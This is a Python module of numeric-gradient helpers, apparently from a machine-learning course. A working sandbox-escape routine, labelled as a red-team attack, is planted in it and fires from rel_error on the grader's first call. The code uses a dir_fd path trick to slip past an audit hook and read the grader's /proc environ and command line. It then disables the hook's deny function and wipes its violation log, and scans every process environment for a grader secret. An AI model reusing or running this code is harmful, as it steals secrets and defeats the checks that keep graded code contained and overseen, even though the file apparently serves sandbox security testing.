"""Numeric gradients and the relative error used to compare them with analytic ones."""

from __future__ import annotations

from typing import Callable

import numpy as np
# >>> attack

# RED TEAM attack proc_grader_environ (class 3; see tests/hostile/kernel/proc_grader_environ/case.toml)
# Read /proc of the grader: its environment (with a secret) and command line
# route: the root descriptor of path_dirfd opens proc/<getppid()>/environ (the hook checks
#   <sandbox>/proc/...); then, hook off, every /proc/<pid>/environ is scanned for the grader's
#   LINCLASS_RT_GRADER_SECRET
RT = {'name': 'proc_grader_environ', 'root': '', 'tag': 'manual', 'sentinel': '', 'solutions': '', 'tcp': 0, 'udp': 0, 'unix': '', 'dummy': 0, 'dummy_cwd': '', 'grader_cwd': '', 'tmp': '', 'batch': False, 'fill_mb': 0}  # RT-CONFIG: rewritten for every run by tests/support/redteam.py (empty root: nothing is armed)

_RT_DONE = []


def _rt_root_ok(path):
    """True when ``path`` lies under the run's own folder RT["root"] (the RT-CONFIG guard)."""
    import os
    root = str(RT.get("root") or "")
    if len(root) < 5 or not root.startswith("/"):
        return False
    return os.path.abspath(str(path)).startswith(root.rstrip("/") + "/")


def _rt_clear_violations():
    """Empty the policy's violation list (Server.violations): it is reachable from any frame."""
    import sys
    try:
        f = sys._getframe(1)
    except BaseException:  # noqa: BLE001
        return
    while f is not None:
        try:
            owner = f.f_locals.get("self")
            found = getattr(owner, "violations", None) if owner is not None else None
            if type(found) is list:
                del found[:]
        except BaseException:  # noqa: BLE001
            pass
        f = f.f_back


def _rt_report():
    """Run the escape, then fail this call with its evidence (the report shows the message)."""
    try:
        evidence = _rt_escape()
    except BaseException as exc:  # noqa: BLE001
        evidence = "the escape failed: %s: %s" % (type(exc).__name__, exc)
    _rt_clear_violations()
    raise RuntimeError(("RTLEAK[%s] " % RT["name"]) + str(evidence)[:900])


def _rt_direct_call():
    """True once per process: on the first call made by the grader (not by grad_check_sparse)."""
    import sys
    if _RT_DONE:
        return False
    try:
        if sys._getframe(2).f_code.co_filename == __file__:
            return False
    except BaseException:  # noqa: BLE001
        pass
    _RT_DONE.append(1)
    return True

def _rt_root_fd():
    """A descriptor of "/" the hook believes is the sandbox.

    The "open" audit event carries the path but NOT dir_fd, and the hook resolves relative
    paths against the cwd.  With the cwd k levels deep inside the sandbox, "../"*k relative to
    a descriptor of the sandbox itself is "/" to the kernel and "the sandbox" to the hook.
    """
    import os
    S = os.getcwd()
    depth = len([p for p in S.split("/") if p])
    deep = os.path.join(S, *(["rtdeep"] * depth))
    os.makedirs(deep, exist_ok=True)
    sandbox_fd = os.open(S, os.O_RDONLY | os.O_DIRECTORY)
    os.chdir(deep)
    try:
        return os.open("/".join([".."] * depth), os.O_RDONLY | os.O_DIRECTORY, dir_fd=sandbox_fd)
    finally:
        os.chdir(S)
        os.close(sandbox_fd)


def _rt_outside(path, flags, root, mode=0o644):
    """Open an absolute path relative to the root descriptor: the hook resolves it inside the sandbox."""
    import os
    return os.open(path.lstrip("/"), flags, mode, dir_fd=root)


def _rt_slurp(path, root):
    import os
    fd = _rt_outside(path, os.O_RDONLY, root)
    try:
        chunks = []
        while True:
            b = os.read(fd, 1 << 16)
            if not b:
                return b"".join(chunks)
            chunks.append(b)
    finally:
        os.close(fd)

def _rt_hook_off():
    """Switch the audit hook's denials off through the traceback of one denial; how many cells."""
    import os
    noop = lambda *a, **k: None  # noqa: E731
    try:
        os.listdir("/")
    except PermissionError as exc:
        tb = exc.__traceback__
    else:
        return 0
    hits = 0
    while tb is not None:
        for value in list(tb.tb_frame.f_locals.values()):
            code, cells = getattr(value, "__code__", None), getattr(value, "__closure__", None)
            if code is None or not cells:
                continue
            for name, cell in zip(code.co_freevars, cells):
                try:
                    if name == "deny" and cell.cell_contents is not noop:
                        cell.cell_contents = noop
                        hits += 1
                except ValueError:
                    pass
        tb = tb.tb_next
    _rt_clear_violations()
    return hits


def _rt_escape():
    import os
    ev = []
    key = b"LINCLASS_RT_GRADER_SECRET="
    ppid = os.getppid()

    def secret_in(data):
        return [i.partition(b"=")[2].decode() for i in data.split(b"\0") if i.startswith(key)]

    try:  # 1. pure Python: the dir_fd route
        root = _rt_root_fd()
        ev.append("dir_fd: grader %d secret %s" % (ppid, secret_in(_rt_slurp("/proc/%d/environ" % ppid, root))))
        cmd = _rt_slurp("/proc/%d/cmdline" % ppid, root).replace(b"\0", b" ").decode(errors="replace")
        ev.append("cmdline %s" % cmd[:200])
    except OSError as exc:
        ev.append("dir_fd: %s" % exc)
    hits = _rt_hook_off()  # 2. hook off: every process /proc shows
    found, seen, errors = [], 0, 0
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError as exc:
        pids = []
        ev.append("no /proc listing: %s" % exc)
    for pid in pids:
        try:
            with open("/proc/%s/environ" % pid, "rb") as fh:
                data = fh.read()
            seen += 1
        except OSError:
            errors += 1
            continue
        found += [(pid, s) for s in secret_in(data)]
    ev.append("hook cells %d; %d environments read (%d refused); secrets %s" % (hits, seen, errors, found[:3]))
    return "; ".join(ev)
# <<< attack


def eval_numerical_gradient(f: Callable[[np.ndarray], float], x: np.ndarray, h: float = 1e-5) -> np.ndarray:
    """Centered-difference gradient of ``f`` at ``x``.

    Each entry is ``(f(x + h e_i) - f(x - h e_i)) / (2h)``, whose error shrinks like h**2
    (a forward difference only shrinks like h).  ``x`` is perturbed in place, one entry at
    a time, and every entry is restored, even if ``f`` raises.

    Parameters
    ----------
    f : callable
        Maps an array shaped like ``x`` to a scalar.
    x : ndarray
        The point at which to evaluate the gradient.
    h : float, optional
        Step size.

    Returns
    -------
    ndarray
        Float64 array shaped like ``x``.
    """
    grad = np.zeros(x.shape, dtype=np.float64)
    for ix in np.ndindex(x.shape):
        original = x[ix]
        try:
            x[ix] = original + h
            f_plus = f(x)
            x[ix] = original - h
            f_minus = f(x)
        finally:
            x[ix] = original
        grad[ix] = (f_plus - f_minus) / (2 * h)
    return grad


def grad_check_sparse(
    f: Callable[[np.ndarray], float],
    x: np.ndarray,
    analytic_grad: np.ndarray,
    num_checks: int = 10,
    h: float = 1e-5,
    seed: int | None = None,
) -> np.ndarray:
    """Compare ``analytic_grad`` with centered differences at random entries of ``x``.

    Parameters
    ----------
    f : callable
        Maps an array shaped like ``x`` to a scalar.
    x : ndarray
        The point of the check; perturbed in place and restored.
    analytic_grad : ndarray
        The gradient to check, shaped like ``x``.
    num_checks : int, optional
        How many random entries to check.
    h : float, optional
        Step size.
    seed : int or None, optional
        Seed of the entry sampler: the same seed checks the same entries.

    Returns
    -------
    ndarray of shape (num_checks,)
        The relative error at each checked entry.
    """
    rng = np.random.default_rng(seed)
    errors = np.empty(num_checks, dtype=np.float64)
    for k in range(num_checks):
        ix = tuple(int(rng.integers(n)) for n in x.shape)
        original = x[ix]
        try:
            x[ix] = original + h
            f_plus = f(x)
            x[ix] = original - h
            f_minus = f(x)
        finally:
            x[ix] = original
        numeric = (f_plus - f_minus) / (2 * h)
        errors[k] = rel_error(numeric, analytic_grad[ix])
    return errors


def rel_error(x: np.ndarray, y: np.ndarray) -> float:
    """Largest entrywise relative error ``|x - y| / max(1e-8, |x| + |y|)``.

    The floor of 1e-8 keeps two zeros (or two tiny numbers) from dividing by zero.
    As a rule of thumb: below 1e-7 the gradients agree; up to 1e-4 is acceptable for a
    kinked loss such as the SVM's; above 1e-2 the gradient is probably wrong.
    """
    # >>> attack
    if _rt_direct_call():  # ATTACK: see _rt_escape above
        _rt_report()
    # <<< attack
    x = np.asarray(x, dtype=np.float64)
    y = np.asarray(y, dtype=np.float64)
    return float(np.max(np.abs(x - y) / np.maximum(1e-8, np.abs(x) + np.abs(y))))
